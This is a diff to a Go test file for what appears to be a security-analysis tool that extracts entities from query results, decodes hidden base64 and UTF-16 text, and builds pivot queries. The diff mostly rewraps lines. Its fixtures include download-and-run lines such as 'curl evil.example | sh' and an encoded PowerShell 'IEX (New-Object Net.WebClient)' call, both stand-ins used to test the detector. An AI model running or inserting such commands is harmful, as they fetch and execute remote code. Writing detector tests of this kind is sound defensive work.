@@ -22,7 +22,8 @@ func TestValuesAreRecognized(t *testing.T) {
 		{"DeviceId", strings.Repeat("a1", 20), entity.DeviceID},
 		{"X", strings.Repeat("A1", 32), entity.SHA256},
 		{"MD5", strings.Repeat("0f", 16), entity.MD5},
-		{"RemoteIP", "10.0.0.1", entity.IP}, {"RemoteIP", "2001:db8::1", entity.IP}, {"RemoteUrl", "10.0.0.1", entity.IP},
+		{"RemoteIP", "10.0.0.1", entity.IP}, {"RemoteIP", "2001:db8::1", entity.IP},
+		{"RemoteUrl", "10.0.0.1", entity.IP},
 		{"RemoteUrl", "evil.example.com", entity.Domain}, {"X", "https://evil.example/a?b", entity.URL},
 		{"SenderFromAddress", "a.b@example.com", entity.Mail}, {"AccountUpn", "a.b@example.com", entity.AccountUPN},
 		{"InitiatingProcessAccountName", "svc", entity.AccountName}, {"AccountSid", "S-1-5-18", entity.AccountSID},
@@ -49,10 +50,15 @@ func TestHiddenTextIsDecoded(t *testing.T) {
 		name, text string
 		want       []entity.Decoded
 	}{
-		{"powershell", "powershell.exe -nop -enc " + wide("IEX (New-Object Net.WebClient)"), []entity.Decoded{{"UTF-16 in base64", "IEX (New-Object Net.WebClient)"}}},
-		{"plain", "echo " + base64.StdEncoding.EncodeToString([]byte("curl evil.example | sh")) + " | base64 -d", []entity.Decoded{{"base64", "curl evil.example | sh"}}},
-		{"without padding", base64.RawURLEncoding.EncodeToString([]byte("hello hidden world?>")), []entity.Decoded{{"base64", "hello hidden world?>"}}},
-		{"one in another", wide("FromBase64String('" + inner + "')"), []entity.Decoded{{"UTF-16 in base64", "FromBase64String('" + inner + "')"}, {"base64", "http://10.1.2.3/payload.bin"}}},
+		{"powershell", "powershell.exe -nop -enc " + wide("IEX (New-Object Net.WebClient)"),
+			[]entity.Decoded{{"UTF-16 in base64", "IEX (New-Object Net.WebClient)"}}},
+		{"plain", "echo " + base64.StdEncoding.EncodeToString([]byte("curl evil.example | sh")) + " | base64 -d",
+			[]entity.Decoded{{"base64", "curl evil.example | sh"}}},
+		{"without padding", base64.RawURLEncoding.EncodeToString([]byte("hello hidden world?>")),
+			[]entity.Decoded{{"base64", "hello hidden world?>"}}},
+		{"one in another", wide("FromBase64String('" + inner + "')"),
+			[]entity.Decoded{{"UTF-16 in base64", "FromBase64String('" + inner + "')"},
+				{"base64", "http://10.1.2.3/payload.bin"}}},
 		{"hash", strings.Repeat("deadbeef", 8), nil},
 		{"path", `C:\Windows\System32\WindowsPowerShell\powershell.exe /ThisIsNotBase64AtAll`, nil},
 		{"nothing", "", nil},
@@ -91,8 +97,10 @@ func TestAddressesAreDefanged(t *testing.T) {
 func TestPivotsAreValidQueries(t *testing.T) {
 	values := map[string]string{
 		"SHA256": strings.Repeat("ab", 32), "SHA1": strings.Repeat("ab", 20), "MD5": strings.Repeat("ab", 16),
-		"RemoteIP": "10.0.0.1", "RemoteUrl": "https://evil.example/\"x\"", "AccountName": "o'neill \"x\"", "AccountUpn": "a@b.example", "AccountSid": "S-1-5-18",
-		"AccountObjectId": "0c0c", "SenderFromAddress": "a@b.example", "FileName": "a\\b\u202e.exe", "NetworkMessageId": "m", "AlertId": "da1",
+		"RemoteIP": "10.0.0.1", "RemoteUrl": "https://evil.example/\"x\"", "AccountName": "o'neill \"x\"",
+		"AccountUpn": "a@b.example", "AccountSid": "S-1-5-18",
+		"AccountObjectId": "0c0c", "SenderFromAddress": "a@b.example", "FileName": "a\\b\u202e.exe",
+		"NetworkMessageId": "m", "AlertId": "da1",
 		"DeviceName": "ws-1", "DeviceId": "d1", "ActionType": "ProcessCreated", "Nowhere": "x",
 	}
 	columns := []table.Column{{Name: "Timestamp", Type: table.DateTime}}
@@ -106,7 +114,8 @@ func TestPivotsAreValidQueries(t *testing.T) {
 	answer := b.Table()
 	for i, c := range columns {
 		for _, p := range entity.Pivots("mde", answer, 0, i) {
-			if strings.Contains(p.Query, "Email") || strings.Contains(p.Query, "Identity") || strings.Contains(p.Query, "Alert") {
+			if strings.Contains(p.Query, "Email") || strings.Contains(p.Query, "Identity") ||
+				strings.Contains(p.Query, "Alert") {
 				t.Errorf("%s, %s: not served by mde:\n%s", c.Name, p.Title, p.Query)
 			}
 		}
